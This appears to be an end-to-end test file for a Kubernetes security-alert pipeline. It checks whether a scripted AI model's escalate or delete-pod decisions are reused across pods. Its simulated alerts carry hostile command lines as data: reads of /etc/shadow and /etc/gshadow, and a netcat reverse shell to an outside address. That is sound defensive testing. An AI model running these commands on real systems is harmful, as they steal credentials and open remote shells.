import type { V1Pod } from '@kubernetes/client-node';
import { z } from 'zod/v4';

import { type Cluster, connect } from '../../cluster/local/kubernetes/client';
import { until } from '../../cluster/local/process/wait';
import type { Stack } from '../../cluster/local/stack';
import { JOB, NAMESPACES } from '../../core/names';
import { deciding, type ScriptedModel } from '../support/scriptedModel';
import { alertAbout, grownTo, post, query } from './support/incident';
import { settleIncidents } from './support/incidents';
import { N8n } from './support/n8n';
import { startModel, startStackWith } from './support/scriptedStack';
import { FIRST_START_MS } from './support/stack';
import { deploy, readyPods, remove } from './support/workload';

const namespace = NAMESPACES.playground;
const PREFIX = 'e2e reuse';
const PATH = 'e2e-reuse';

let stack: Stack;
let cluster: Cluster;
let model: ScriptedModel;
let n8n: N8n;

beforeAll(async () => {
  model = await startModel(deciding('escalate'));
  stack = await startStackWith(model);
  cluster = connect();
  n8n = await N8n.connect(stack);
  await n8n.deleteWorkflows(PREFIX);
  const workflow = await n8n.workflow(stack.workflowId);
  for (const node of workflow.nodes) {
    if (/\.(?:roses|race)Agent$/.test(node.type)) node.parameters.reuseAnswers = true;
    if (node.type.endsWith('securityAlertTrigger'))
      Object.assign(node, { parameters: { ...node.parameters, path: PATH }, webhookId: PATH });
  }
  await n8n.activate({ ...workflow, name: PREFIX }, PATH);
}, FIRST_START_MS);
afterAll(async () => {
  await n8n.deleteWorkflows(PREFIX);
  await model.close();
});

/** The pods of a Deployment of this name, which run an image of one digest, as the kubelet would say it. */
async function running(name: string): Promise<V1Pod[]> {
  await settleIncidents(stack);
  await deploy(cluster, name, 3);
  for (const pod of await readyPods(cluster, name, 3))
    await until(`the digest of ${pod.metadata?.name ?? ''}`, 10, async () => {
      const current = await cluster.core.readNamespacedPod({ name: pod.metadata?.name ?? '', namespace });
      for (const status of current.status?.containerStatuses ?? [])
        status.imageID = `docker.io/library/busybox@sha256:${'a'.repeat(64)}`;
      await cluster.core.replaceNamespacedPodStatus({ name: current.metadata?.name ?? '', namespace, body: current });
      return true;
    });
  return readyPods(cluster, name, 3);
}

const linesSchema = z.object({
  data: z.object({
    result: z.array(z.object({ values: z.array(z.tuple([z.string(), z.string()]).rest(z.unknown())) })),
  }),
});

/** Sends a recorded alert about a pod. Gives its log line, and how many requests it cost. */
async function passed(name: string, pod: V1Pod | undefined, commandLine: string) {
  const [podName, uid] = [pod?.metadata?.name ?? '', pod?.metadata?.uid ?? ''];
  const before = model.asked.length;
  const since = `${Date.now()}000000`;
  const body = await alertAbout(name, uid, (alert) => {
    Object.assign(alert.output_fields, { 'k8s.pod.name': podName, 'proc.cmdline': commandLine });
    alert.output = alert.output.replace(/k8s_pod_name=\S+/, `k8s_pod_name=${podName}`);
  });
  const { status, body: answer } = await post(stack, body, { path: PATH });
  expect([status, answer]).toEqual([202, expect.not.stringContaining('repeated')]);
  const selected = new URLSearchParams({ query: `{job="${JOB}"} | event="incident" | pod="${podName}"`, start: since });
  const line = await until(`the line of ${podName}`, 30, async () => {
    const found = await fetch(`${stack.urls.loki}/loki/api/v1/query_range?${selected.toString()}`);
    return linesSchema.parse(await found.json()).data.result[0]?.values[0]?.[1];
  });
  return { line: JSON.parse(line) as Record<string, unknown>, requests: model.asked.length - before };
}

const REUSED = 'sum(incident_pipeline_model_reused_total)';

describe('of a Deployment whose pods read a sensitive file', () => {
  const NAME = 'reused';
  let pods: V1Pod[];
  beforeAll(async () => {
    pods = await running(NAME);
  }, 120_000);
  afterAll(() => remove(cluster, 'Deployment', NAME));

  test('the first pod costs two requests; the second none, and its line and a metric say so', async () => {
    model.follow(deciding('escalate'));
    const counted = await query(stack, REUSED);
    const first = await passed('escalate-test', pods[0], 'cat /etc/shadow');
    expect(first).toMatchObject({ requests: 2, line: { decision: 'escalate', decidedBy: 'model' } });
    expect(first.line.run).not.toHaveProperty('reused');
    const second = await passed('escalate-test', pods[1], 'cat /etc/shadow');
    const reused = { incident: first.line.incident, at: expect.any(String) as string };
    expect(second).toMatchObject({
      requests: 0,
      line: {
        decision: 'escalate',
        decidedBy: 'model',
        pod: pods[1]?.metadata?.name,
        run: { by: 'model', questions: 0, reused },
        analysis: { run: { by: 'model', questions: 0, reused } },
      },
    });
    await grownTo(stack, REUSED, counted + 2);
  });

  test('another command line is asked about', async () => {
    const third = await passed('escalate-test', pods[2], 'cat /etc/shadow /etc/gshadow');
    expect(third).toMatchObject({ requests: 2, line: { decision: 'escalate', decidedBy: 'model' } });
    expect(third.line.run).not.toHaveProperty('reused');
  });
});

test('a deletion is asked about for each pod', async () => {
  const name = 'reused-never';
  const pods = await running(name);
  try {
    model.follow(deciding('delete_pod'));
    for (const pod of pods.slice(0, 2))
      expect(await passed('pod-delete-test', pod, 'nc 1.1.1.1 4444 -e /bin/sh')).toMatchObject({
        requests: 2,
        line: { proposal: { decision: 'delete_pod' }, decidedBy: 'model' },
      });
  } finally {
    await remove(cluster, 'Deployment', name);
  }
}, 180_000);
